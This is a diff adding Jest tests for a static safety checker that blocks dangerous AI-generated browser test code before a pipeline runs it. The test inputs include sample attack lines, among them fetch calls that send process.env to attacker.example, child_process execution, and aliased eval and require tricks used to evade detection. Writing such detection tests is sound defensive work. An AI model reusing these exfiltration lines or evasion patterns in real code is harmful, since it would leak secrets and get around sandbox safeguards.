@@ -0,0 +1,162 @@
+import { repoConfigSchema, settingsFromRepoConfig } from "../src/config";
+import { PolicyViolationError, checkTestCode } from "../src/safety-policy";
+import { testExample } from "../src/test-examples";
+import { TEST_HARNESS } from "../src/test-protocol";
+import { FakeComment, createFakeGitHubService } from "./helpers/fake-github";
+
+jest.mock("@actions/core");
+
+const preamble = `const { startBrowserAgent } = require("magnitude-core");
+const { z } = require("zod");
+require("dotenv").config();
+if (!process.env.ANTHROPIC_API_KEY && process.env.CLAUDE_API_KEY) {
+  process.env.ANTHROPIC_API_KEY = process.env.CLAUDE_API_KEY;
+}
+`;
+
+const policy = { mode: "block" as const, allowModules: [], allowHosts: [], allowEnv: [] };
+const previewUrls = ["https://shop-pr-7.vercel.app"];
+
+function rules(code: string, overrides = {}) {
+  return checkTestCode(code, { ...policy, ...overrides }, previewUrls).map((violation) => violation.rule);
+}
+
+describe("safety policy", () => {
+  test("allows the preamble, the harness and the example test", () => {
+    expect(checkTestCode(preamble + TEST_HARNESS + testExample, policy, previewUrls)).toEqual([]);
+  });
+
+  test("flags dangerous modules, eval and process internals", () => {
+    const violations = checkTestCode(
+      [
+        `const { execSync } = require("node:child_process");`,
+        `const mod = require(process.argv[2]);`,
+        `eval("1 + 1");`,
+        `new Function("return 1")();`,
+        `setTimeout("alert(1)", 10);`,
+        `process.binding("fs");`,
+      ].join("\n"),
+      policy
+    );
+
+    expect(violations.map((violation) => [violation.line, violation.rule])).toEqual([
+      [1, "module"],
+      [2, "module"],
+      [3, "eval"],
+      [4, "eval"],
+      [5, "eval"],
+      [6, "process"],
+    ]);
+    expect(violations[0].message).toBe('require("node:child_process") is not allowed');
+  });
+
+  test("flags eval and Function reached through the global object or aliases", () => {
+    expect(rules(`globalThis.eval("1 + 1");`)).toEqual(["eval"]);
+    expect(rules(`global["eval"]("1 + 1");`)).toEqual(["eval"]);
+    expect(rules(`window.Function("return 1")();`)).toEqual(["eval"]);
+    expect(rules(`new globalThis.Function("return 1")();`)).toEqual(["eval"]);
+    expect(rules(`const run = eval;\nrun("1 + 1");`)).toEqual(["eval"]);
+    expect(rules(`(0, eval)("1 + 1");`)).toEqual(["eval"]);
+    expect(rules(`const run = globalThis.eval;`)).toEqual(["eval"]);
+    expect(rules(`const { eval: run } = globalThis;`)).toEqual(["eval"]);
+    expect(rules(`const checks = { eval: true };\nchecks.eval = false;`)).toEqual([]);
+  });
+
+  test("flags environment dumps and variables outside the allow-list", () => {
+    expect(rules(`console.log(JSON.stringify(process.env));`)).toEqual(["env"]);
+    expect(rules(`const { GITHUB_TOKEN } = process.env;`)).toEqual(["env"]);
+    expect(rules(`const token = process.env.GITHUB_TOKEN;`)).toEqual(["env"]);
+    expect(rules(`const name = "X"; process.env[name];`)).toEqual(["env"]);
+    expect(rules(`const url = process.env["PREVIEW_URL"];`)).toEqual([]);
+    expect(rules(`const flag = process.env.FEATURE_FLAG;`, { allowEnv: ["FEATURE_FLAG"] })).toEqual([]);
+  });
+
+  test("only allows file writes inside temporary directories", () => {
+    const fs = `const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\n`;
+
+    expect(rules(`${fs}fs.writeFileSync("/home/runner/.bashrc", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}fs.rmSync(process.cwd(), { recursive: true });`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}fs.writeFileSync(path.join(os.tmpdir(), "shot.png"), "x");`)).toEqual([]);
+    expect(rules(`${fs}fs.mkdirSync(\`\${process.env.RUNNER_TEMP}/shots\`);`)).toEqual([]);
+    expect(rules(`${fs}fs.readFileSync("/etc/hosts", "utf8");`)).toEqual([]);
+  });
+
+  test("flags file writes through destructured, aliased and bound functions", () => {
+    const fs = `const fs = require("fs");\n`;
+
+    expect(rules(`const { writeFileSync } = require("fs");\nwriteFileSync("/home/runner/.bashrc", "x");`)).toEqual([
+      "fs-write",
+    ]);
+    expect(rules(`const { rmSync: remove } = require("node:fs");\nremove(process.cwd());`)).toEqual(["fs-write"]);
+    expect(rules(`const { writeFile } = require("fs/promises");\nwriteFile("notes.txt", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}const write = fs.writeFileSync;\nwrite("out.txt", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}const write = fs.writeFileSync.bind(fs);\nwrite("out.txt", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}fs["appendFileSync"]("out.txt", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}fs.writeFileSync.call(fs, "out.txt", "x");`)).toEqual(["fs-write"]);
+    expect(rules(`${fs}fs.writeFileSync.apply(fs, ["/tmp/out.txt", "x"]);`)).toEqual(["fs-write"]);
+    expect(rules(`const { writeFileSync } = require("fs");\nwriteFileSync("/tmp/shot.png", "x");`)).toEqual([]);
+  });
+
+  test("only allows network calls to the preview and allowed hosts", () => {
+    expect(rules(`fetch("https://attacker.example/collect");`)).toEqual(["network"]);
+    expect(rules(`const u = getUrl(); fetch(u);`)).toEqual(["network"]);
+    expect(rules(`new WebSocket("wss://attacker.example");`)).toEqual(["network"]);
+    expect(rules(`fetch("https://shop-pr-7.vercel.app/api/cart");`)).toEqual([]);
+    expect(rules(`fetch(\`\${process.env.PREVIEW_URL}/api/cart\`);`)).toEqual([]);
+    expect(rules(`fetch(process.env.PREVIEW_URL + "/api");`)).toEqual([]);
+    expect(rules(`fetch("http://localhost:3000/health");`)).toEqual([]);
+    expect(rules(`fetch("https://api.stripe.com/v1");`, { allowHosts: ["*.stripe.com"] })).toEqual([]);
+  });
+
+  test("flags require, process and network globals reached indirectly", () => {
+    expect(rules(`const r = require; r("child_process").execSync("id");`)).toContain("module");
+    expect(rules(`module.require("child_process");`)).toEqual(["module"]);
+    expect(rules(`require.call(null, "child_process");`)).toEqual(["module"]);
+    expect(rules(`require.apply(null, ["child_process"]);`)).toEqual(["module"]);
+    expect(rules(`require.main.require("child_process");`)).toEqual(["module"]);
+    expect(rules(`const { require: load } = module;`)).toEqual(["module"]);
+    expect(rules(`globalThis.fetch("https://evil.example.com/x");`)).toEqual(["network"]);
+    expect(rules(`window["fetch"]("https://evil.example.com/x");`)).toEqual(["network"]);
+    expect(rules(`fetch.call(null, "https://evil.example.com/x");`)).toEqual(["network"]);
+    expect(rules(`const send = fetch;`)).toEqual(["network"]);
+    expect(rules(`new globalThis.XMLHttpRequest("https://evil.example.com/x");`)).toEqual(["network"]);
+    expect(rules(`new self.WebSocket("wss://evil.example.com");`)).toEqual(["network"]);
+    expect(rules(`JSON.stringify(process["env"]);`)).toEqual(["env"]);
+    expect(rules(`const key = "env"; process[key];`)).toEqual(["env"]);
+    expect(rules(`JSON.stringify(globalThis.process.env);`)).toEqual(["env"]);
+    expect(rules(`const p = process; p.env;`)).toEqual(["process"]);
+    expect(rules(`const { env } = process;`)).toEqual(["process"]);
+
+    expect(rules(`globalThis.fetch("https://shop-pr-7.vercel.app/api/cart");`)).toEqual([]);
+    expect(rules(`const url = process["env"].PREVIEW_URL;`)).toEqual([]);
+    expect(rules(`require.resolve("zod");`)).toEqual([]);
+    expect(rules(`process.exit(1);`)).toEqual([]);
+  });
+
+  test("reads the allow-lists from the config file", () => {
+    const config = repoConfigSchema.parse({
+      safety: { mode: "warn", "allow-modules": ["crypto"], "allow-hosts": ["*.stripe.com"] },
+    });
+
+    expect(settingsFromRepoConfig(config)).toMatchObject({
+      safetyMode: "warn",
+      safetyAllowModules: ["crypto"],
+      safetyAllowHosts: ["*.stripe.com"],
+    });
+    expect(rules(`require("crypto");`, { allowModules: ["crypto"] })).toEqual([]);
+  });
+
+  test("lists blocked violations in the PR comment", async () => {
+    const comments: FakeComment[] = [];
+    const { service } = createFakeGitHubService(comments);
+    const violations = checkTestCode(`fetch("https://attacker.example/" + JSON.stringify(process.env));`, policy);
+
+    await service.commentError(new PolicyViolationError(violations));
+
+    expect(comments[0].body).toContain("## 🛡️ Generated Tests Blocked");
+    expect(comments[0].body).toContain(
+      "| 1 | `network` | fetch() to attacker.example, which is not the preview or an allowed host |"
+    );
+    expect(comments[0].body).toContain("| 1 | `env` | process.env is used as a whole");
+  });
+});